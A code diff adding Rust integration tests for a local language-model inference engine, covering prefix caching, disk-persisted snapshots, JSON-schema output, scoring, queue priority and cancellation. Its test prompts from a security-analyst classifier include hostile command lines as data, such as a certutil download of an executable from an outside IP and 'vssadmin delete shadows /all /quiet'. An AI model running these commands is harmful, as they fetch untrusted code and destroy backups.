@@ -7,9 +7,11 @@ use std::sync::Arc;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::time::Duration;
 
+use std::time::Instant;
+
 use sotto_engine::{
-    Engine, EngineConfig, EngineError, Event, FinishReason, Message, NoPacing, Phase, Prompt, Request, StepHook,
-    TemplateChoice, TemplateUsed, process_cpu_time,
+    Engine, EngineConfig, EngineError, Event, FinishReason, Message, NoPacing, Phase, Priority, Prompt, Request,
+    StepHook, TemplateChoice, TemplateUsed, grammar, process_cpu_time,
 };
 use sotto_models::{GgufError, catalog, store};
 
@@ -118,6 +120,7 @@ fn closing_the_reply_channel_stops_decoding() {
     assert!(baseline >= 190, "{baseline}");
 
     let mut events = engine.submit(long).unwrap();
+    assert!(matches!(events.blocking_recv(), Some(Event::Started)));
     match events.blocking_recv() {
         Some(Event::Text(_)) => {}
         other => panic!("expected text first, got {other:?}"),
@@ -156,7 +159,7 @@ fn full_queue_and_oversized_prompts_are_refused() {
     // One running plus one queued fill a queue of 1; the next is refused without blocking.
     let req = Request::new(Prompt::Text("Once upon a time".into()), 50);
     let mut running = engine.submit(req.clone()).unwrap();
-    assert!(matches!(running.blocking_recv(), Some(Event::Text(_))), "the first request is running");
+    assert!(matches!(running.blocking_recv(), Some(Event::Started)), "the first request is running");
     let _queued = engine.submit(req.clone()).unwrap();
     let third = engine.submit(req);
     assert!(matches!(third, Err(EngineError::QueueFull(1))), "{third:?}");
@@ -206,7 +209,8 @@ fn bad_model_files_give_clear_errors() {
 
 #[test]
 fn memory_budget_is_checked_before_loading_and_names_what_fits() {
-    let config = EngineConfig { n_ctx: 8192, mem_budget: Some(250 << 20), ..EngineConfig::new(smollm()) };
+    let config =
+        EngineConfig { n_ctx: 8192, mem_budget: Some(250 << 20), prefix_cache: 0, ..EngineConfig::new(smollm()) };
     match Engine::start(config, Box::new(NoPacing)) {
         Err(EngineError::MemoryBudget(msg)) => {
             assert!(msg.contains("but the memory budget is 250 MiB"), "{msg}");
@@ -228,4 +232,163 @@ fn quantized_kv_cache_runs_and_is_smaller() {
     assert!(q8.info().memory.kv_cache < f16.info().memory.kv_cache);
     let (text, stats) = q8.generate_blocking(Request::new(chat("Is `whoami` malicious?"), 8)).unwrap();
     assert!(stats.generated_tokens > 0 && !text.is_empty());
+}
+
+const ANALYST: &str = "You are a security analyst. You read one endpoint event at a time: a process launch with \
+its command line, parent process and user. You decide whether it shows attacker activity. Consider living-off-the-land \
+binaries, encoded PowerShell, credential dumping, persistence through scheduled tasks and services, shadow copy \
+deletion, and downloads to temporary folders. Answer in one short sentence.";
+
+#[test]
+fn prefix_cache_reuses_the_system_prompt_without_changing_the_answer() {
+    let events = ["certutil -urlcache -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe", "ls -la /home/alice"];
+    let prompt = |event: &str| Prompt::Chat(vec![Message::new("system", ANALYST), Message::new("user", event)]);
+    let cold = start(EngineConfig { prefix_cache: 0, ..EngineConfig::new(smollm()) });
+    let warm = start(EngineConfig::new(smollm()));
+    for (i, event) in events.iter().enumerate() {
+        let (cold_text, cold_stats) = cold.generate_blocking(Request::new(prompt(event), 24)).unwrap();
+        let (warm_text, warm_stats) = warm.generate_blocking(Request::new(prompt(event), 24)).unwrap();
+        assert_eq!(cold_stats.cached_tokens, 0, "the cache is off");
+        assert_eq!(warm_text, cold_text, "reusing the prefix must not change the greedy answer");
+        if i > 0 {
+            // The system prompt (~90 tokens) is shared; only the event is evaluated.
+            assert!(warm_stats.cached_tokens >= 80, "{warm_stats:?}");
+            assert!(warm_stats.cached_tokens < warm_stats.prompt_tokens);
+        }
+    }
+    assert_eq!(warm.status().prefix_entries, 1, "one snapshot: the system prompt");
+    assert!(warm.status().prefix_bytes > 0);
+}
+
+#[test]
+fn prefix_snapshot_survives_other_prompts_and_a_restart_from_disk() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = EngineConfig { prefix_dir: Some(dir.path().into()), ..EngineConfig::new(smollm()) };
+    let preamble = format!("{ANALYST}\n\nEvent: ");
+    let text_request = |event: &str| Request {
+        fixed_prefix: Some(preamble.len()),
+        ..Request::new(Prompt::Text(format!("{preamble}{event}\nAnswer:")), 8)
+    };
+    let engine = start(config.clone());
+    let (first, s1) = engine.generate_blocking(text_request("whoami /all")).unwrap();
+    assert_eq!(s1.cached_tokens, 0);
+    // Something unrelated replaces the live cache; the snapshot still serves the prefix.
+    engine.generate_blocking(Request::new(Prompt::Text("The weather today is".into()), 4)).unwrap();
+    let (_, s2) = engine.generate_blocking(text_request("net user /domain")).unwrap();
+    assert!(s2.cached_tokens >= 80, "{s2:?}");
+    drop(engine);
+    let files = std::fs::read_dir(dir.path()).unwrap().flatten().flat_map(|d| std::fs::read_dir(d.path()).unwrap());
+    assert_eq!(files.count(), 1, "one persisted prefix");
+
+    let restarted = start(config);
+    let (again, s3) = restarted.generate_blocking(text_request("whoami /all")).unwrap();
+    assert!(s3.cached_tokens >= 80, "loaded from disk: {s3:?}");
+    assert_eq!(again, first);
+}
+
+#[test]
+fn json_schema_output_is_valid_and_follows_the_schema() {
+    let schema = r#"{"type":"object","properties":{"verdict":{"type":"string","enum":["malicious","suspicious","benign"]},
+        "confidence":{"type":"number"}},"required":["verdict","confidence"],"additionalProperties":false}"#;
+    let engine = start(EngineConfig::new(smollm()));
+    let request = Request {
+        grammar: Some(grammar::from_json_schema(schema).unwrap()),
+        ..Request::new(chat("Classify `vssadmin delete shadows /all /quiet`. Reply in JSON."), 64)
+    };
+    let (text, stats) = engine.generate_blocking(request).unwrap();
+    assert_eq!(stats.finish, FinishReason::Stop, "the grammar ends the object: {text:?}");
+    let value: serde_json::Value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text:?}"));
+    assert!(["malicious", "suspicious", "benign"].contains(&value["verdict"].as_str().unwrap()), "{value}");
+    assert!(value["confidence"].is_number(), "{value}");
+    assert_eq!(value.as_object().unwrap().len(), 2);
+
+    let object = Request {
+        grammar: Some(grammar::json_object()),
+        ..Request::new(chat("Describe `whoami` as a JSON object."), 48)
+    };
+    let (text, stats) = engine.generate_blocking(object).unwrap();
+    if stats.finish == FinishReason::Stop {
+        assert!(serde_json::from_str::<serde_json::Value>(&text).unwrap().is_object(), "{text:?}");
+    } else {
+        assert!(text.trim_start().starts_with('{'), "{text:?}");
+    }
+}
+
+#[test]
+fn scoring_ranks_continuations_by_log_probability() {
+    let engine = start(EngineConfig::new(smollm()));
+    let prompt = Prompt::Text("The capital of France is".into());
+    let (scores, stats) =
+        engine.score_blocking(Request::score(prompt.clone(), vec![" Paris".into(), " a banana split".into()])).unwrap();
+    assert_eq!(scores.len(), 2);
+    assert!(scores.iter().all(|s| s.is_finite() && *s < 0.0), "{scores:?}");
+    assert!(scores[0] > scores[1] + 2.0, "{scores:?}");
+    assert_eq!(stats.generated_tokens, 0);
+    // Scoring left the KV cache as it found it: generation afterwards is unaffected.
+    let cold = start(EngineConfig { prefix_cache: 0, ..EngineConfig::new(smollm()) });
+    let after = engine.generate_blocking(Request::new(prompt.clone(), 8)).unwrap().0;
+    assert_eq!(after, cold.generate_blocking(Request::new(prompt, 8)).unwrap().0);
+}
+
+#[test]
+fn expired_deadlines_are_refused_and_critical_requests_jump_the_queue() {
+    let engine = start(EngineConfig::new(smollm()));
+    let long = Request::new(Prompt::Text("Once upon a time".into()), 60);
+    let mut running = engine.submit(long.clone()).unwrap();
+    assert!(matches!(running.blocking_recv(), Some(Event::Started)));
+    let late = Request { deadline: Some(Instant::now() + Duration::from_millis(1)), ..long.clone() };
+    let mut late = engine.submit(late).unwrap();
+    let mut normal = engine.submit(Request::new(Prompt::Text("Hello".into()), 2)).unwrap();
+    let mut critical =
+        engine.submit(Request { priority: Priority::Critical, ..Request::new(Prompt::Text("Hi".into()), 2) }).unwrap();
+    match late.blocking_recv() {
+        Some(Event::Failed(EngineError::DeadlineExceeded { waited })) => assert!(waited > Duration::from_millis(1)),
+        other => panic!("expected DeadlineExceeded, got {other:?}"),
+    }
+    let done = |rx: &mut tokio::sync::mpsc::UnboundedReceiver<Event>| loop {
+        match rx.blocking_recv() {
+            Some(Event::Done(stats)) => break stats,
+            Some(_) => {}
+            None => panic!("no Done"),
+        }
+    };
+    let critical = done(&mut critical);
+    let normal = done(&mut normal);
+    // The normal request was queued first, yet waited longer: the critical one went ahead.
+    assert!(normal.queued > critical.queued, "normal {:?} vs critical {:?}", normal.queued, critical.queued);
+    drop(running);
+}
+
+#[test]
+fn keep_alive_unloads_when_idle_and_reloads_on_demand() {
+    let engine = start(EngineConfig { keep_alive: Some(Duration::from_millis(300)), ..EngineConfig::new(smollm()) });
+    assert!(engine.status().loaded);
+    let (a, _) = engine.generate_blocking(Request::new(chat("Is `id` malicious?"), 8)).unwrap();
+    std::thread::sleep(Duration::from_millis(900));
+    assert!(!engine.status().loaded, "unloaded after keep_alive");
+    let (b, _) = engine.generate_blocking(Request::new(chat("Is `id` malicious?"), 8)).unwrap();
+    assert_eq!(a, b);
+    assert!(engine.status().loaded);
+    assert_eq!(engine.status().loads, 2);
+}
+
+#[test]
+fn close_refuses_new_work_and_cancel_stops_the_running_request() {
+    let engine = start(EngineConfig::new(smollm()));
+    let mut running = engine.submit(Request::new(Prompt::Text("Once upon a time".into()), 400)).unwrap();
+    assert!(matches!(running.blocking_recv(), Some(Event::Started)));
+    let mut waiting = engine.submit(Request::new(Prompt::Text("Hello".into()), 2)).unwrap();
+    engine.close();
+    assert!(matches!(waiting.blocking_recv(), Some(Event::Failed(EngineError::Stopped))));
+    assert!(matches!(engine.submit(Request::new(Prompt::Text("x".into()), 1)), Err(EngineError::Stopped)));
+    engine.cancel_running();
+    let done = loop {
+        match running.blocking_recv() {
+            Some(Event::Done(stats)) => break stats,
+            Some(_) => {}
+            None => panic!("no Done"),
+        }
+    };
+    assert_eq!(done.finish, FinishReason::Cancelled);
+    assert!(done.generated_tokens < 400);
 }
